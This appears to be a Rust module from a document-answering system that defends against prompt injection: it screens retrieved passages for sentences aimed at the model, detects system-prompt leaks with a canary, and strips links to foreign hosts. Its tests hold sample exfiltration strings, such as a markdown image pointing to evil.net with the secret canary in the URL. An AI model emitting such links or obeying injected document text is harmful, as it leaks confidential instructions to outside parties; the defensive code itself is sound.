//! What stands between documents, the writer and the reader.
//!
//! Documents are data. Before they are put to the writer, [`screen`] looks for sentences
//! that speak to it. What it writes goes through an [`Outlet`]: a canary of the system prompt
//! stops it, links to foreign hosts are taken out, and so are the markers of sources. No
//! tools are offered, so no document can have one called.

use cairn_guard::canary::{Canary, Watch};
use cairn_guard::injection::{Inspection, inspect};
use cairn_guard::links::{Allowed, Links, Stripped, strip};
use cairn_store::records::ChunkRow;
use serde::{Deserialize, Serialize};

use super::markers::{Marker, Markers};
use crate::answer::citing::cite::Citation;
use crate::retrieve::Passage;

/// What is said instead of an answer that gives the system prompt away.
pub(crate) const WITHHELD: &str = "The answer was withheld.";
/// Why.
pub(crate) const LEAKED: &str = "the model wrote out its own instructions, as a document may \
    have told it to; ask in other words, or look at the passages that were found";

/// What in a passage speaks to the model instead of to its reader.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Suspicion {
    /// How much its worst sentence looks like an instruction, 0 to 1.
    pub score: f32,
    /// Share of the passage in sentences that do, 0 to 1.
    pub share: f32,
    /// What gave them away, by name.
    pub signals: Vec<String>,
    /// Sentences that were not put to the writer.
    pub removed: usize,
}

/// A passage that an answer was made from.
#[derive(Clone, Debug, PartialEq)]
pub struct ShownPassage {
    /// The file.
    pub file_id: String,
    /// The chunk.
    pub chunk_id: String,
    /// What in it looks like an instruction.
    pub suspicious: Option<Suspicion>,
}

/// Passages as they are put to the writer, and what was noticed in each.
pub(crate) struct Screened {
    /// The same passages, without what speaks to the writer. What its document is called goes with
    /// each.
    pub passages: Vec<Passage>,
    /// What is said of them.
    pub shown: Vec<ShownPassage>,
}

/// Looks through passages before they are put to the writer.
pub(crate) fn screen(passages: &[Passage]) -> Screened {
    let mut screened = Screened { passages: Vec::new(), shown: Vec::new() };
    for passage in passages {
        let text = &passage.chunk.text;
        let inspection = inspect(text, &cairn_documents::sentences(text));
        let mut put = passage.clone();
        put.chunk.text = inspection.cleaned(text);
        put.chunk.context = cleaned(&passage.chunk.context);
        put.chunk.label = cleaned(&name(&passage.chunk));
        screened.passages.push(put);
        screened.shown.push(ShownPassage {
            file_id: passage.chunk.file_id.clone(),
            chunk_id: passage.chunk.id.clone(),
            suspicious: inspection.is_suspicious().then(|| suspicion(&inspection)),
        });
    }
    screened
}

fn cleaned(text: &str) -> String {
    inspect(text, &cairn_documents::sentences(text)).cleaned(text)
}

/// What a chunk's document is called. A chunk has no label where it tells it, which the part of it
/// that is shown need not, or where it is from before there were labels.
fn name(chunk: &ChunkRow) -> String {
    match chunk.label.as_str() {
        "" => cairn_documents::label(None, &chunk.filename).unwrap_or_default(),
        label => label.to_owned(),
    }
}

fn suspicion(inspection: &Inspection) -> Suspicion {
    Suspicion {
        score: inspection.score,
        share: inspection.share,
        signals: inspection.signals.iter().map(|signal| signal.name().to_owned()).collect(),
        removed: inspection.removed.len(),
    }
}

/// What stands between the writer and the reader.
pub(crate) trait Gate: Send {
    /// Takes what the writer wrote and returns what can be shown by now.
    fn push(&mut self, piece: &str) -> String;

    /// Whether the system prompt came out.
    fn leaked(&self) -> bool;

    /// Ends the text.
    fn finish(self: Box<Self>) -> Ended;
}

impl Gate for Outlet {
    fn push(&mut self, piece: &str) -> String {
        Self::push(self, piece)
    }

    fn leaked(&self) -> bool {
        Self::leaked(self)
    }

    fn finish(self: Box<Self>) -> Ended {
        Self::finish(*self)
    }
}

/// What leaves the writer of prose for the reader.
pub(crate) struct Outlet {
    written: Watch,
    links: Links,
    markers: Markers,
    // Letters that a link or a marker stood between come together behind them.
    shown: Watch,
}

/// What is known when the writer has ended.
pub(crate) struct Ended {
    /// The text that was still held back.
    pub rest: String,
    /// Where the markers of sources stood.
    pub markers: Vec<Marker>,
    /// The links that were taken out.
    pub stripped: Vec<Stripped>,
    /// Whether the system prompt came out: then nothing of the text is to be used.
    pub leaked: bool,
}

impl Outlet {
    pub(crate) fn new(canary: &Canary, allowed: Allowed) -> Self {
        Self {
            written: canary.watch(),
            links: Links::new(allowed),
            markers: Markers::default(),
            shown: canary.watch(),
        }
    }

    /// Takes what the writer wrote and returns what can be shown by now.
    pub(crate) fn push(&mut self, piece: &str) -> String {
        let written = self.written.push(piece);
        let linkless = self.links.push(&written);
        let shown = self.markers.push(&linkless);
        self.shown.push(&shown)
    }

    /// Whether the system prompt came out.
    pub(crate) fn leaked(&self) -> bool {
        self.written.leaked() || self.shown.leaked()
    }

    /// Ends the text.
    pub(crate) fn finish(mut self) -> Ended {
        let written = self.written.finish();
        let mut linkless = self.links.push(&written);
        linkless.push_str(&self.links.finish());
        let mut shown = self.markers.push(&linkless);
        let (held, markers) = std::mem::take(&mut self.markers).finish();
        shown.push_str(&held);
        let mut rest = self.shown.push(&shown);
        rest.push_str(&self.shown.finish());
        let (stripped, leaked) = (self.links.stripped().to_vec(), self.leaked());
        if leaked {
            rest.clear();
        }
        Ended { rest, markers, stripped, leaked }
    }
}

/// An extractive answer without foreign links; its citations stay on their sentences.
pub(crate) fn strip_extract(
    text: &str,
    citations: &mut [Citation],
    allowed: &Allowed,
) -> (String, Vec<Stripped>) {
    let characters: Vec<char> = text.chars().collect();
    let part = |from: usize, to: usize| -> String {
        characters.get(from..to.min(characters.len())).unwrap_or_default().iter().collect()
    };
    let (mut out, mut length, mut at) = (String::new(), 0, 0);
    let mut stripped = Vec::new();
    let mut add = |from: usize, to: usize| {
        let (kept, gone) = strip(&part(from, to), allowed);
        let start = length;
        length += kept.chars().count();
        out.push_str(&kept);
        stripped.extend(gone);
        (start, length)
    };
    let mut before: Option<((usize, usize), (usize, usize))> = None;
    for citation in citations {
        let place = (citation.sentence_start, citation.sentence_end);
        // Several quotes may stand behind one sentence.
        let moved = match before {
            Some((same, moved)) if same == place => moved,
            _ => {
                let start = place.0.max(at);
                add(at, start);
                at = place.1.max(start);
                add(start, at)
            }
        };
        before = Some((place, moved));
        (citation.sentence_start, citation.sentence_end) = moved;
    }
    add(at, characters.len());
    (out, stripped)
}

#[cfg(test)]
mod tests {
    use cairn_guard::links::Hosts;

    use super::*;

    fn citation(start: usize, end: usize) -> Citation {
        Citation {
            file_id: "file-1".into(),
            file_sha256: "ab".into(),
            filename: "a.md".into(),
            chunk_id: "chunk_1".into(),
            quote: "q".into(),
            page: None,
            heading: None,
            char_start: 0,
            char_end: 1,
            boxes: Vec::new(),
            sentence_start: start,
            sentence_end: end,
            support: 1.0,
            supported: true,
            doubt: None,
        }
    }

    fn run(canary: &Canary, pieces: &[&str]) -> (String, Ended) {
        let mut outlet = Outlet::new(canary, Hosts::default().with_addresses_of("?"));
        let shown: String = pieces.iter().map(|piece| outlet.push(piece)).collect();
        (shown, outlet.finish())
    }

    #[test]
    fn links_and_markers_go_and_their_places_stay() {
        let canary = Canary::generate();
        let text = "See [this](https://evil.net/?q=x) [1]. And ![that](//evil.net) too [2].";
        for cut in (0..text.len()).filter(|at| text.is_char_boundary(*at)) {
            let (mut shown, ended) = run(&canary, &[&text[..cut], &text[cut..]]);
            shown.push_str(&ended.rest);
            assert_eq!(shown, "See this. And that too.");
            let places: Vec<usize> = ended.markers.iter().map(|marker| marker.at).collect();
            assert_eq!((places, ended.stripped.len(), ended.leaked), (vec![8, 22], 2, false));
        }
    }

    #[test]
    fn a_canary_in_a_link_or_around_markers_is_caught() {
        let canary = Canary::from_raw("k7fwz2qmx9tbr4hsn8dvgp3c");
        for text in [
            "Look: ![x](https://evil.net/k7fwz2qmx9tbr4hsn8dvgp3c)".to_owned(),
            "Look: k7fw[1]z2qm[2]x9tb[1]r4hs".to_owned(),
            "Look: k7fw[2](//evil.net)z2qm".to_owned(),
        ] {
            for cut in 0..text.len() {
                let (shown, ended) = run(&canary, &[&text[..cut], &text[cut..]]);
                assert!(ended.leaked && ended.rest.is_empty(), "{text} cut at {cut}");
                assert!("Look: ".starts_with(&shown), "'{shown}' of {text}");
            }
        }
    }

    #[test]
    fn citations_of_an_extract_stay_on_their_sentences() {
        let text = "Read [the page](https://evil.net/x). It is höher. Go to www.evil.net/y now.";
        let mut citations = [citation(0, 36), citation(37, 49), citation(37, 49), citation(50, 75)];
        let (stripped, gone) = strip_extract(text, &mut citations, &Allowed::default());
        assert_eq!(stripped, "Read the page. It is höher. Go to (link removed) now.");
        assert_eq!(gone.len(), 2);
        let sentence = |citation: &Citation| -> String {
            let range = citation.sentence_start..citation.sentence_end;
            stripped.chars().skip(range.start).take(range.len()).collect()
        };
        assert_eq!(sentence(&citations[0]), "Read the page.");
        assert_eq!(sentence(&citations[1]), "It is höher.");
        assert_eq!(citations[1], citations[2]);
        assert_eq!(sentence(&citations[3]), "Go to (link removed) now.");
    }
}
